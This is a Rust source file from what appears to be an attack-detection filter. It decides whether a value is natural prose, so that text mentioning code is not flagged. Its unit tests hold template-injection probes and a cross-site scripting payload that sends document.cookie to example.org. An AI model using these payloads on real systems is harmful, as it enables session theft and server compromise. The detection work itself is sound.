//! Whether a value is written text: code that somebody writes about is no attack.
//!
//! **In:** a decoded value. **Out:** a yes or no.
//! **Invariant:** asked only after a hit that an author of prose could write too; it never clears what runs by itself.
//! **Cost:** one pass, only after such a hit.

use super::bytes::is_space;

/// Words from which a text is one.
const WORDS: u32 = 7;

/// Whether most of `value` is words with blanks between them.
pub(super) fn is_prose(value: &[u8]) -> bool {
    let mut words = 0_u32;
    let mut letters = 0_usize;
    let mut length = 0_usize;
    // The word so far is only letters, and began after a blank.
    let mut whole = true;
    let mut before = b' ';
    // Mark-up around a text is none of it.
    let mut tag = false;
    // Nor are the blanks that indent it.
    let mut marked = 0_usize;
    for &byte in value.iter().chain(b" ") {
        let opens = before == b'<' && (byte.is_ascii_alphabetic() || matches!(byte, b'/' | b'?'));
        if tag || opens {
            marked = marked.saturating_add(1);
            tag = byte != b'>';
            before = if tag { byte } else { b' ' };
            (length, whole) = (0, !tag);
            continue;
        }
        if is_space(byte) && is_space(before) {
            marked = marked.saturating_add(1);
        }
        if is_space(byte) || matches!(byte, b',' | b'.' | b'!' | b'?' | b':' | b';' | b')') {
            let ends = is_space(byte) || matches!(before, b'a'..=b'z' | b'A'..=b'Z' | 0x80..);
            if whole && ends && length >= 2 {
                words = words.saturating_add(1);
                letters = letters.saturating_add(length);
            }
            length = 0;
            // `a.b.c` is a path of names, `a. b` ends a sentence.
            whole = is_space(byte);
        } else if byte.is_ascii_alphabetic() || byte >= 0x80 || matches!(byte, b'\'' | b'-') {
            length = length.saturating_add(1);
        } else {
            whole = matches!(byte, b'"' | b'(') && length == 0 && is_space(before);
            length = 0;
        }
        before = byte;
    }
    words >= WORDS && letters.saturating_mul(2) >= value.len().saturating_sub(marked)
}

#[cfg(test)]
mod tests {
    use super::is_prose;

    #[test]
    fn sentences_are_prose_and_code_is_not() {
        for text in [
            "In Vue the expression {{ 1 + 1 }} shows two, but mine shows nothing at all.",
            "Wie kann ich in Jinja den Wert {{ config.items() }} im Text ausgeben?",
            "Why does document.cookie come back empty when I read it in the console?",
            "<?xml version=\"1.0\"?><order id=\"31\"><note>Why is this text so short and the rest so long?</note></order>",
        ] {
            assert!(is_prose(text.as_bytes()), "{text}");
        }
        for text in [
            "{{7*7}}",
            "Hello {{7*7}}",
            "{% for key, value in config.iteritems() %}<dt>{{ key|e }}</dt>{% endfor %}",
            "';window.location='//example.org/?'+document.cookie;//",
            "function a(){var b=window.location;return b.href.split('?')[1];}",
        ] {
            assert!(!is_prose(text.as_bytes()), "{text}");
        }
    }
}
